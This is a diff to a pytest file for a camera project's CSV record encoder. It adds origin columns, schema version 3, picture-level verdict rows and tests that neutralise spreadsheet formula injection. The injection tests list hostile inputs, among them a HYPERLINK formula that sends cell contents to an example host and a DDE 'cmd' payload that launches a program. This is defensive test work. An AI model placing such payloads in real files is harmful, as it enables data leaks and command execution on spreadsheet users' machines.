@@ -6,11 +6,14 @@ import pytest
 
 from iris_camera.records.csv_file import (
     COLUMNS,
+    HEARTBEAT,
     LINE_BYTES_MAX,
     ClassifierRow,
     HeartbeatRow,
     ModelRow,
     NotARecordError,
+    Origin,
+    PictureRow,
     encode,
     header,
     utc_time,
@@ -19,6 +22,7 @@ from iris_camera.records.csv_file import (
 
 WALL_S = 1795467933.1239  # 2026-11-23 21:05:33.1239 UTC
 DETECTION = ModelRow(frame=7, part_id=3, x=10.25, y=20, width=64.004, height=48.5, score=0.98765, label="bolt")
+ORIGIN = Origin("line-1", "9f3c01ab", "2026-11-23/a.jpg")
 
 
 def fields(kind, data):
@@ -26,9 +30,9 @@ def fields(kind, data):
 
 
 def test_a_model_row_is_one_detection():
-    (row,) = fields("model", encode([DETECTION], WALL_S, 12.3456789))
+    (row,) = fields("model", encode([DETECTION], WALL_S, 12.3456789, ORIGIN))
     assert row == {
-        "schema_version": "2",
+        "schema_version": "3",
         "frame": "7",
         "utc": "2026-11-23T21:05:33.123Z",
         "monotonic_s": "12.345679",
@@ -39,17 +43,23 @@ def test_a_model_row_is_one_detection():
         "height_px": "48.50",
         "score": "0.9877",
         "label": "bolt",
+        "camera": "line-1",
+        "run": "9f3c01ab",
+        "file": "2026-11-23/a.jpg",
     }
 
 
 def test_a_heartbeat_is_a_model_row_of_no_part():
-    (row,) = fields("model", encode([HeartbeatRow(7)], WALL_S, 12.3456789))
+    (row,) = fields("model", encode([HeartbeatRow(7)], WALL_S, 12.3456789, ORIGIN))
     assert {name: text for name, text in row.items() if text} == {
-        "schema_version": "2",
+        "schema_version": "3",
         "frame": "7",
         "utc": "2026-11-23T21:05:33.123Z",
         "monotonic_s": "12.345679",
         "label": "heartbeat",
+        "camera": "line-1",
+        "run": "9f3c01ab",
+        "file": "2026-11-23/a.jpg",
     }
     assert row["part_id"] == ""
 
@@ -64,7 +74,40 @@ def test_a_classifier_row_is_one_part():
     assert (row["part_id"], row["label"], row["score"]) == ("3", "defect", "0.5000")
 
 
-@pytest.mark.parametrize("label", ['a "quoted" one', "a,b", "two\nlines", "ölfleck", "=1+1", ""])
+def test_a_row_without_a_part_is_the_verdict_on_a_whole_picture():
+    rows = [ClassifierRow(7, 3, "defect", 0.5), PictureRow(7, "defect", 0.5), PictureRow(8, "nothing", None)]
+    found = fields("classifier", encode(rows, WALL_S, 1.0, ORIGIN))
+    assert [(row["part_id"], row["label"], row["score"]) for row in found] == [
+        ("3", "defect", "0.5000"),
+        ("", "defect", "0.5000"),
+        ("", "nothing", ""),
+    ]
+    assert {(row["camera"], row["run"], row["file"]) for row in found} == {ORIGIN}
+
+
+FORMULAS = [
+    '=HYPERLINK("http://example.org/?"&A1,"click")',
+    "=1+1",
+    "+1",
+    "-1+cmd|' /C calc'!A0",
+    "@SUM(A1)",
+    "\t=1",
+    "\n=1",
+    "\uff1d1",
+    "'=1",
+]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_texts_that_a_spreadsheet_takes_for_a_formula_are_marked_as_text_and_can_be_read_back(text):
+    origin = ORIGIN._replace(file=text)
+    row = fields("model", encode([DETECTION._replace(label=text)], WALL_S, 1.0, origin))[0]
+    assert (row["label"], row["file"]) == (f"'{text}", f"'{text}")
+    rows = fields("classifier", encode([ClassifierRow(7, 3, text, 0.5), PictureRow(7, text, 0.5)], WALL_S, 1.0, origin))
+    assert [(row["label"], row["file"]) for row in rows] == [(f"'{text}", f"'{text}")] * 2
+
+
+@pytest.mark.parametrize("label", ['a "quoted" one', "a,b", "two\nlines", "ölfleck", "1=1", "a'b", ""])
 def test_any_label_can_be_read_back(label):
     data = encode([ClassifierRow(7, 3, label, 0.5)], WALL_S, 1.0)
     assert fields("classifier", data)[0]["label"] == label
@@ -72,6 +115,14 @@ def test_any_label_can_be_read_back(label):
     data = encode([DETECTION._replace(label=label)], WALL_S, 1.0)
     assert fields("model", data)[0]["label"] == label
     assert whole_rows(io.BytesIO(header("model") + data)).rows == 1
+
+
+@pytest.mark.parametrize("label", ["\r=1", "a\rb", "a\r\nb"])
+def test_a_carriage_return_in_a_text_breaks_no_row(label):
+    data = encode([ClassifierRow(7, 3, label, 0.5)], WALL_S, 1.0, ORIGIN._replace(file=label))
+    (row,) = fields("classifier", data)
+    assert row["label"] == row["file"] == label.replace("\r", "\\r")
+    assert whole_rows(io.BytesIO(header("classifier") + data)).rows == 1
 
 
 @pytest.mark.parametrize("label", ["half \ud800 a pair", "zero \0 byte"])
@@ -185,5 +236,23 @@ def test_a_two_row_file_of_today_with_a_zero_filled_tail_is_believed_to_its_last
 
 def test_the_two_kinds_have_the_columns_that_were_promised():
     assert COLUMNS["model"][:5] == COLUMNS["classifier"][:5]
-    assert COLUMNS["model"][5:] == ("x_px", "y_px", "width_px", "height_px", "score", "label")
-    assert COLUMNS["classifier"][5:] == ("label", "score")
+    assert COLUMNS["model"][5:] == ("x_px", "y_px", "width_px", "height_px", "score", "label", "camera", "run", "file")
+    assert COLUMNS["classifier"][5:] == ("label", "score", "camera", "run", "file")
+
+
+@pytest.mark.parametrize(
+    ("kind", "row", "columns"),
+    [
+        ("model", DETECTION, "schema_version,frame,utc,monotonic_s,part_id,x_px,y_px,width_px,height_px,score,label"),
+        ("model", HeartbeatRow(7), "schema_version,frame,utc,monotonic_s,part_id,x_px"),
+        ("classifier", ClassifierRow(7, 3, "bolt", 0.5), "schema_version,frame,utc,monotonic_s,part_id,label,score"),
+    ],
+)
+def test_readers_by_position_of_earlier_schemas_find_what_they_knew_at_its_place(kind, row, columns):
+    columns = columns.split(",")
+    (line,) = csv.reader(io.StringIO(encode([row], WALL_S, 1.0, ORIGIN).decode(), newline=""))
+    by_position = dict(zip(columns, line, strict=False))
+    by_name = fields(kind, encode([row], WALL_S, 1.0, ORIGIN))[0]
+    assert by_position == {column: by_name[column] for column in columns}
+    assert len(line) == len(COLUMNS[kind])
+    assert (by_name["label"] == HEARTBEAT) == isinstance(row, HeartbeatRow)
